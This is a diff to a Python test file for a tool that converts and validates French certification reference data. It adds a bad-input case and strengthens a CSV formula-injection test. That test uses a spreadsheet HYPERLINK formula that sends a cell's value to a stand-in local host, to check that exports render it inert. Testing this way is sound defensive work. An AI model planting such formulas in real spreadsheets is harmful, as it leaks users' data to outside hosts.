@@ -275,13 +275,15 @@ def test_rome_bad_input(data: st.DataObject, store: Path, rome_small: Path, tmp_
 
 def test_cli_bad_input_is_one_line_and_exit_2(store: Path, tmp_path: Path) -> None:
     """Through the command line: exit code 2, one clear line naming the file, no traceback."""
-    cases = {
-        "rncp": ("export.zip", b"PK\x03\x04" + b"\x00" * 40),
-        "bcn": ("N_FORMATION_DIPLOME.csv", "\ufeff".encode("utf-16")),
-        "kit": ("kit.csv", b""),
-        "rome": ("rome", None),
-    }
-    for source, (name, content) in cases.items():
+    cases = [
+        ("rncp", "export.zip", b"PK\x03\x04" + b"\x00" * 40),
+        ("bcn", "N_FORMATION_DIPLOME.csv", "\ufeff".encode("utf-16")),
+        ("kit", "kit.csv", b""),
+        # a UTF-8 BOM, then bytes that are not UTF-8 in the header (was a traceback)
+        ("kit", "kit-bom.csv", b"\xef\xbb\xbf\x80Code Dipl\xf4me;FicheRNCP\r\n1;RNCP1\r\n"),
+        ("rome", "rome", None),
+    ]
+    for source, name, content in cases:
         path = tmp_path / name
         if content is None:
             path.mkdir()
@@ -417,16 +419,18 @@ def test_formulas_are_text_in_the_graph_and_inert_in_every_export(tmp_path: Path
     formula = '=HYPERLINK("http://127.0.0.1:9/?x="&B3,"Cliquez")'
     rows = valid_rows()
     for row in rows:
-        if row and row[0] == "Intitulé":
+        if row and row[0] in ("Intitulé", "Code RNCP"):
             row[1] = formula
     f = tmp_path / "referentiel.csv"
     with open(f, "w", encoding="utf-8", newline="") as fh:
         csv.writer(fh).writerows(rows)
     g = convert_spreadsheet(f)
     assert formula in {str(o) for o in g.objects()}
+    # The malformed RNCP code is reported with its value: the cell leaves with the text mark.
     report = validate_referentiel([f])
-    lines = report.render("csv")
-    assert formula not in [c for row in csv.reader(io.StringIO(lines)) for c in row]
+    exported = [c for row in csv.reader(io.StringIO(report.render("csv"))) for c in row]
+    assert "'" + formula in exported and formula not in exported
+    assert not any(looks_like_formula(c) for c in exported)
     # The same label from an XLSX whose cell is a real formula with a cached result.
     wb = load_workbook(write_template(tmp_path / "t.xlsx"))
     ws = wb["Certification"]
